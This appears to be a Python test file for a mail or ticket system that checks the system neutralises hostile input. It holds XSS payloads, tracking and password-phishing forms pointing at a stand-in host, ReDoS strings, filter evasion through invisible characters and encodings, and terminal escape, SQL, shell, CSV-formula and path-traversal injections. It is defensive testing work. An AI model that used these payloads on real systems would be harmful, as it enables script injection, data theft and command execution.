"""content.py - H92 to H96: what attacks readers, rules and terminals."""

from case import (NEUTRAL, attached, case, multipart, of_type, plain)

TEXT = 'The printer does not print.'


# H92: the text of HTML has none of what a browser would obey.
def html(name, source, wanted, defects='', **more):
    case('H92', name, NEUTRAL, defects=defects, reads={
        'text': wanted if isinstance(wanted, str) else
        lambda text: not any(word in text.lower() for word in (
            'alert', 'javascript', '<', 'onerror', 'track', 'evil')) and
        wanted(text)}, never=['alert', 'javascript', 'evil.example.net'],
         **{**of_type('text/html', source), **more})


def holds(words):
    return lambda text: words in text


for name, source in {
        'script': '<script>alert(1)</script>',
        'script-src': '<script src="http://evil.example.net/x"></script>',
        'onerror': '<img src=x onerror=alert(1)>',
        'onload': '<body onload="alert(1)">',
        'javascript': '<a href="javascript:alert(1)">',
        'javascript-split': '<a href="java\nscript:alert(1)">',
        'javascript-entity': '<a href="&#106;avascript:alert(1)">',
        'data': '<a href="data:text/html,<script>alert(1)</script>">',
        'vbscript': '<a href="vbscript:alert(1)">',
        'svg': '<svg onload=alert(1)>',
        'svg-script': '<svg><script>alert(1)</script></svg>',
        'base': '<base href="http://evil.example.net/">',
        'refresh': '<meta http-equiv="refresh" content="0;url=http://evil.'
                   'example.net/">',
        'form': '<form action="http://evil.example.net/"><input name=p '
                'type=password></form>',
        'image': '<img src="http://evil.example.net/track.gif">',
        'image-set': '<img srcset="http://evil.example.net/track.gif 2x">',
        'css-url': '<div style="background:url(http://evil.example.net/'
                   'track)">x</div>',
        'css-import': '<style>@import "http://evil.example.net/";</style>',
        'link': '<link rel=stylesheet href="http://evil.example.net/x">',
        'iframe': '<iframe src="http://evil.example.net/"></iframe>',
        'object': '<object data="http://evil.example.net/x"></object>',
        'embed': '<embed src="http://evil.example.net/x">',
        'video': '<video poster="http://evil.example.net/track"></video>',
        'audio': '<audio src="http://evil.example.net/track"></audio>',
        'comment': '<!-- alert(1) -->',
        'comment-early': '<!--><img src=x onerror=alert(1)>-->',
        'comment-if': '<!--[if mso]>alert(1)<![endif]-->',
        'template': '<template><img src=x onerror=alert(1)></template>',
        'attributes': '<img """><img src=x onerror=alert(1)>',
        'noscript': '<noscript><img src=x onerror=alert(1)></noscript>',
        }.items():
    html(name, f'<p>{TEXT}</p>{source}<p>Words.</p>', holds(TEXT))
html('mathml', '<math><mtext><table><mglyph><style><!--</style><img title="'
     '--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></math>' +
     f'<p>{TEXT}</p>', lambda text: '<' not in text)
for name, style in (('display', 'display:none'),
                    ('visibility', 'visibility:hidden'),
                    ('size', 'font-size:0'), ('opacity', 'opacity:0'),
                    ('colour', 'color:transparent'),
                    ('capitals', 'DISPLAY : NONE'),
                    ('important', 'display:none !important')):
    html(f'hidden-{name}', f'<p>{TEXT}</p><div style="{style}">evil words'
         '</div>', TEXT, 'hidden-text')
html('hidden-attribute', f'<p>{TEXT}</p><div hidden>evil words</div>', TEXT,
     'hidden-text')
html('link-text', f'<p>{TEXT} <a href="http://evil.example.net/">'
     'https://bank.example.org/</a></p>',
     f'{TEXT} https://bank.example.org/ <http://evil.example.net/>')

# H93: two meanings: rules see both, commands and readers the plain one.
for name, first, second in (
        ('urgent-in-html', 'All is well.', '<p>URGENT: everything is down</p>'
         ), ('other-words', TEXT, '<p>Something else entirely.</p>')):
    case('H93', name, NEUTRAL, reads={'text': first}, **multipart(
        plain(first), ('Content-Type: text/html; charset=utf-8', second),
        kind='alternative'))
case('H93', 'html-first', NEUTRAL, reads={'text': TEXT}, **multipart(
    ('Content-Type: text/html; charset=utf-8', '<p>else</p>'), plain(TEXT),
    kind='alternative'))
case('H93', 'plain-is-empty', NEUTRAL, reads={'text': TEXT}, **multipart(
    plain(''), ('Content-Type: text/html; charset=utf-8', f'<p>{TEXT}</p>'),
    kind='alternative'))
case('H93', 'plain-says-see-html', NEUTRAL, **multipart(
    plain('Your client does not show HTML.'),
    ('Content-Type: text/html; charset=utf-8', f'<p>{TEXT}</p>'),
    kind='alternative'))

# H94: what makes patterns run away: the rules give up, the ticket is there.
for name, subject in {
        'letters': 'a' * 20000 + '!', 'digits': '1' * 20000,
        'less': '<' * 50000, 'quotes': '"' * 20000,
        'brackets': '([{' * 7000, 'blanks': ' ' * 20000 + 'x',
        'words': 'a ' * 10000, 'dashes': '-' * 20000 + '#',
        'at': 'a@' * 10000, 'dots': 'a.' * 10000 + '!',
        'marks': '!' * 20000, 'slashes': '\\\\/' * 7000,
        'urgent': 'urgen' * 4000}.items():
    case('H94', f'subject-{name}', NEUTRAL, subject=subject)
for name, text in {
        'letters': 'a' * 200000, 'digits': '0123456789' * 20000,
        'quotes': '> ' * 100000, 'nested': '>' * 200000,
        'urls': 'http://a/' * 20000, 'wrote': 'On Mon Ann wrote:\n' * 10000,
        'blanks': ' ' * 200000, 'lines': '\n' * 200000 + 'x',
        'dashes': '-- \n' * 50000, 'from': 'From: x\n' * 20000,
        'numbers': '[#1] ' * 40000, 'tokens': 'a1r-' * 50000,
        'mail': 'a@b.c ' * 30000}.items():
    case('H94', f'text-{name}', NEUTRAL, body=lambda place, text=text:
         (text[:len(text) if place.full else len(text) // 10]) + '\n')

# H95: keywords that are hidden from the rules: they are found all the same.
for name, subject, defects in (
        ('plain', 'URGENT: nothing works', ''),
        ('zero-width', 'u\u200brgent: nothing works',
         'invisible-characters'),
        ('soft-hyphen', 'ur\u00adgent: nothing works',
         'invisible-characters'),
        ('tag', 'ur\U000e0067gent: nothing works', 'invisible-characters'),
        ('wide', '\uff35\uff32\uff27\uff25\uff2e\uff34: nothing works', ''),
        ('encoded', '=?utf-8?b?VVJHRU5UOiBub3RoaW5nIHdvcmtz?=', ''),
        ('split-words', '=?utf-8?q?URG?= =?utf-8?q?ENT=3A_nothing_works?=',
         ''),
        ('marks', 'u\u0301rgent: nothing works', ''),
        ('bold', ''.join(chr(0x1d400 + ord(c) - 65) for c in 'URGENT') +
         ': nothing works', '')):
    case('H95', f'subject-{name}', NEUTRAL, subject=subject, defects=defects,
         urgency='critical')
OUTAGE = 'Everything is down since this morning, nobody can work.\n'
for name, more in (
        ('plain', {'body': OUTAGE}),
        ('base64', of_type('text/plain', 'RXZlcnl0aGluZyBpcyBkb3duIHNpbmNlIHRo'
                           'aXMgbW9ybmluZywgbm9ib2R5IGNhbiB3b3JrLgo=\n',
                           'base64')),
        ('html', of_type('text/html', '<p>Every<b></b>thing is do<i>wn</i> '
                         'since this morning, nobody can work.</p>')),
        ('entities', of_type('text/html', '<p>Ever&#121;thing is &#100;own '
                             'since this morning, nobod&#x79; can work.</p>'
                             )),
        ('zero-width', of_type('text/plain', OUTAGE.replace(
            'down', 'do\u200bwn'))),
        ('prefix', {'body': 'Some words of no use.\n' * 5000 + OUTAGE}),
        ('quoted-printable', of_type('text/plain', 'Everything is do=\nwn '
                                     'since this morning, nobody can work.\n',
                                     'quoted-printable'))):
    case('H95', f'text-{name}', NEUTRAL, urgency='high', **more)

# H96: what a terminal, a log, a format or a page would obey.
SHOWN = {
    'clear': ('a\x1b[2Jb', 'a[2Jb'), 'title': ('a\x1b]0;x\x07b', 'a]0;xb'),
    'bell': ('a\x07b', 'ab'), 'backspace': ('a\x08\x08b', 'ab'),
    'delete': ('a\x7fb', 'ab'), 'c1': ('a\xc2\x9b2Jb', None),
    'form-feed': ('a\x0cb', 'ab'), 'tab': ('a\tb', 'a b'),
    'format': ('%n%s%x%p', '%n%s%x%p'),
    'log-line': ('a 2026-03-02T09:00:00Z ERROR x', None),
    'folded-log-line': ('a\n 2026-03-02 ERROR x', 'a 2026-03-02 ERROR x'),
    'sql': ("x'; DROP TABLE ticket; --", "x'; DROP TABLE ticket; --"),
    'copy': ('\\N\t\\.', '\\N \\.'), 'backslash': ('a\\', 'a\\'),
    'quotes': ('"a" \'b\'', '"a" \'b\''), 'braces': ('{a,b} $1', '{a,b} $1'),
    'json': ('"}],"x":[{"', '"}],"x":[{"'),
    'yaml': ('- a: !!python/x', '- a: !!python/x'),
    'html': ('<b onclick=x>&amp;', '<b onclick=x>&amp;'),
    'markdown': ('[x](javascript:alert(1)) ![](http://e.example.net/)', None),
    'template': ('{{name}} {{#x}}', '{{name}} {{#x}}'),
    'shell': ('`id` $(id) |id;', '`id` $(id) |id;'),
    'csv': ('=HYPERLINK("http://e.example.net/")', None),
    'path': ('../../etc/passwd', '../../etc/passwd'),
    'emoji': ('\U0001f5a8\ufe0f \U0001f468\u200d\U0001f469', None),
    'surrogates': ('=?utf-8?q?=ed=a0=bd=ed=b8=80?=', None),
    'long-word': ('x' * 900, 'x' * 900)}
for name, (raw, wanted) in SHOWN.items():
    case('H96', f'subject-{name}', NEUTRAL, subject=raw, defects={
        'c1': '', 'emoji': 'invisible-characters',
        'surrogates': 'bad-charset'}.get(name, ''),
        reads={} if wanted is None else {'subject': wanted},
        never=['onclick', 'javascript', 'drop table', 'e.example.net'])
    if name in ('folded-log-line', 'long-word', 'copy', 'tab'):
        continue
    shown = raw.replace('\\', '\\\\').replace('"', '\\"')
    case('H96', f'name-{name}', NEUTRAL, sender=f'"{shown}" <ann@{{d}}>'
         if name != 'surrogates' else f'{raw} <ann@{{d}}>', envelope=
         '<ann@{d}>', defects={'emoji': 'invisible-characters',
                               'surrogates': 'bad-charset'}.get(name, ''))
for name in ('clear', 'format', 'sql', 'html', 'shell'):
    raw = SHOWN[name][0]
    case('H96', f'text-{name}', NEUTRAL, body=f'{raw}\n{TEXT}\n')
    case('H96', f'file-{name}', NEUTRAL, **multipart(
        plain(TEXT), attached(raw.replace('"', '\\"'))))
for name, fields in {
        'id': 'References: <a\x1b[2J@{d}> <%n%s@{d}>\n',
        'copy': 'Cc: "\x1b[2J%n" <x@{d}>\n',
        'results': 'Authentication-Results: mx.example.test; \x1b[2J=x\n',
        'agent': 'User-Agent: \x1b[2J%n%s\nX-Mailer: <script>\n'}.items():
    case('H96', f'field-{name}', NEUTRAL, fields=fields)
